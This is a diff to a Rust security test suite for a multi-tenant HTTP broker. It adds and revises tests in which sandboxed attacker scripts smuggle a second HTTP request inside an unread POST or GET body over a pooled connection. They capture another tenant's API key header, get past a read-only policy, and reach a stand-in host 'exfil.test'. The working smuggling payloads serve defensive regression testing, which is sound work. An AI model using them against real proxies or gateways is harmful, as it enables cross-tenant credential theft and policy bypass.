@@ -25,8 +25,10 @@ const ATTACKER_KEY: &str = "mallory-0f1e2d3c4b5a69788796a5b4";
 
 /// A shared comment board over HTTPS on 203.0.113.10:443 (`board.test`), as an issue
 /// tracker many tenants use with their own keys, written as small services often are
-/// (Python's `http.server`, keep-alive): `POST /comments` appends the body it reads,
-/// any `GET` lists every comment as JSON and, as a GET handler does, reads no body.
+/// (Python's `http.server`, keep-alive): `POST /comments` appends the `Host` it was sent
+/// with and the body it reads, `POST /ping` answers `{"ok": true}` without reading a
+/// body (it needs none), any `GET` lists every comment as JSON and, as a GET handler
+/// does, reads no body.
 const BOARD_PY: &str = r#"
 import http.server, json, ssl, sys
 cert, key = sys.argv[1:3]
@@ -44,8 +46,11 @@ class H(http.server.BaseHTTPRequestHandler):
         self.end_headers()
         self.wfile.write(out)
     def do_POST(self):
+        if self.path.startswith("/ping"):
+            return self.answer(b'{"ok": true}')
         n = int(self.headers.get("content-length", "0"))
-        comments.append(self.rfile.read(n).decode("utf-8", "replace"))
+        body = self.rfile.read(n).decode("utf-8", "replace")
+        comments.append(self.headers.get("host", "") + " " + body)
         self.answer(b'{"ok": true}')
     def do_GET(self):
         self.answer(json.dumps({"comments": comments}).encode())
@@ -227,15 +232,15 @@ integrations = ["board_b"]
     }
 }
 
-/// The attacker, with its own handle: a GET whose body is the head of a POST to the
-/// board with a `Content-Length` of `argv[1]`. The broker sends the GET with its body on
-/// a pooled connection; the board answers the GET without reading the body, so the body
-/// is the next request on that connection as the board reads it — a POST still waiting
-/// for `argv[1]` bytes of body when the broker puts the connection back in its pool.
+/// The attacker, with its own handle: a `POST /ping` whose body is the head of a
+/// `POST /comments` with a `Content-Length` of `argv[1]`. The broker sends it on a pooled
+/// connection; the board answers the ping without reading the body, so the body is the
+/// next request on that connection as the board reads it — a POST still waiting for
+/// `argv[1]` bytes of body when the broker puts the connection back in its pool.
 const SMUGGLE: &str = r#"
 h = hb.handle("board_a", "mallory")["handle"]
 head = "POST /comments HTTP/1.1\r\nHost: board.test\r\nContent-Type: text/plain\r\nContent-Length: %s\r\n\r\n" % sys.argv[1]
-print(json.dumps({"smuggle": code(lambda: hb.request("GET", "https://board.test/comments", handle=h, body=head))}))
+print(json.dumps({"smuggle": code(lambda: hb.request("POST", "https://board.test/ping", handle=h, body=head))}))
 "#;
 
 /// The victim: reads the board with its own handle.
@@ -257,8 +262,8 @@ print(json.dumps({"status": r["status"], "body": r.get("body", "")}))
 
 /// Upstream connections the broker reuses carry one tenant's request into another's.
 /// The attack (request smuggling through the broker's connection pool): a sandbox sends
-/// a GET with a body that is the head of a `POST /comments` waiting for N bytes; the
-/// board answers the GET and reads the body as the next request. The broker pools the
+/// `POST /ping` with a body that is the head of a `POST /comments` waiting for N bytes;
+/// the board answers the ping and reads the body as the next request. The broker pools the
 /// connection, and another tenant's next call to the same host goes out on it: its
 /// request line, headers and `X-Api-Key: <its key>` become the body of the
 /// attacker's comment, and its answer is the comment's `{"ok": true}`. N is chosen to
@@ -266,7 +271,7 @@ print(json.dumps({"status": r["status"], "body": r.get("body", "")}))
 /// baseline only the `secret_assignment` family, matching `x-api-key: …`, cut the 24
 /// characters captured; a header name no family knows would not be).
 /// Measured on the baseline: the victim got `{"ok": true}`, the attacker read
-/// `GET /comments HTTP/1.1\r\nhost: board.test\r\nx-api-key: [REDACTED…]`.
+/// `board.test GET /comments HTTP/1.1\r\nhost: board.test\r\nx-api-key: [REDACTED…]`.
 #[test]
 fn a_request_left_on_a_pooled_connection_does_not_capture_another_tenants_call() {
     let world = Board::new("smuggle", r#"["GET", "POST"]"#);
@@ -314,16 +319,16 @@ out["body"] = r.get("body", "")
 print(json.dumps(out))
 "#;
 
-/// A request body the upstream does not read is a request the broker never judged.
-/// The attacker's integration allows GET only (a read-only grant): its POST is
-/// `policy_denied`, but a GET whose body is a whole `POST /comments` is sent, the board
-/// answers the GET without reading the body, and reads the body as the POST — a write
-/// the policy refused (here unauthenticated, as the body cannot hold the credential; with
-/// another `Host` in it, a request to a name the policy never judged on the same
-/// address). Closing the connection after a body (the fix above) does not help: the
-/// whole request arrived before the close.
+/// A GET's body the upstream does not read is a request the broker never judged. The
+/// attacker's integration allows GET only (a read-only grant): its POST is
+/// `policy_denied`, but on the baseline a GET whose body is a whole `POST /comments` was
+/// sent, the board answered the GET without reading the body and read the body as the
+/// POST — a write the policy refused (unauthenticated, as the body cannot hold the
+/// credential). Closing the connection after a body (the fix above) does not help: the
+/// whole request arrived before the close. Fixed as the guard does for plain HTTP: a
+/// call with a handle carries no body on GET, HEAD, OPTIONS, TRACE or DELETE.
+/// Measured on the baseline: `"smuggle": 200` and the board held `written-by-a-get-5b1e`.
 #[test]
-#[ignore = "open: a body the upstream leaves unread is sent as an unjudged request (refuse bodies on GET/HEAD/DELETE with a handle, or an integration opt-in)"]
 fn a_body_the_upstream_leaves_unread_is_not_a_request_policy_refused() {
     let world = Board::new("smuggle-write", r#"["GET"]"#);
     let note = "written-by-a-get-5b1e";
@@ -334,6 +339,44 @@ fn a_body_the_upstream_leaves_unread_is_not_a_request_policy_refused() {
     assert!(
         !got["body"].as_str().unwrap_or("").contains(note),
         "a POST the policy refused reached the board inside a GET's body: {got}"
+    );
+    assert_eq!(got["smuggle"], "policy_denied", "a GET with a body: {got}");
+}
+
+/// The attacker: a `POST /ping` (answered unread) whose body is a whole
+/// `POST /comments` naming another host, `exfil.test`, then a read of the board.
+const SMUGGLE_HOST: &str = r#"
+h = hb.handle("board_a", "mallory")["handle"]
+note = sys.argv[1]
+whole = "POST /comments HTTP/1.1\r\nHost: exfil.test\r\nContent-Length: %d\r\n\r\n%s" % (len(note), note)
+out = {"smuggle": code(lambda: hb.request("POST", "https://board.test/ping", handle=h, body=whole))}
+r = hb.request("GET", "https://board.test/comments", handle=h)
+out["read"] = r["status"]
+out["body"] = r.get("body", "")
+print(json.dumps(out))
+"#;
+
+/// Still open: a POST whose body the upstream leaves unread (an endpoint that needs no
+/// input, an early error) carries a whole second request the broker never judged: here
+/// one naming `Host: exfil.test`, a name no policy allows, served by the upstream's
+/// address (on a shared address — a CDN, a multi-tenant gateway — another site, which
+/// gets the data in the request). The broker cannot tell whether an upstream read a
+/// body; what would close it: send bodies chunked (a chunk-size line is never a request
+/// line) where the integration allows it, or per-integration opt-in for bodies.
+#[test]
+#[ignore = "open: a POST body the upstream leaves unread is a second, unjudged request (another Host on the same address)"]
+fn a_post_body_the_upstream_leaves_unread_does_not_reach_another_host() {
+    let world = Board::new("smuggle-host", r#"["GET", "POST"]"#);
+    let note = "for-exfil-test-9c4d";
+    let got = world.in_sandbox("web", SMUGGLE_HOST, &[note]);
+    println!("attacker: {got}");
+    assert_eq!(got["read"], 200, "the board was read: {got}");
+    assert!(
+        !got["body"]
+            .as_str()
+            .unwrap_or("")
+            .contains(&format!("exfil.test {note}")),
+        "a request for exfil.test, inside a POST's unread body, reached the upstream: {got}"
     );
 }
 
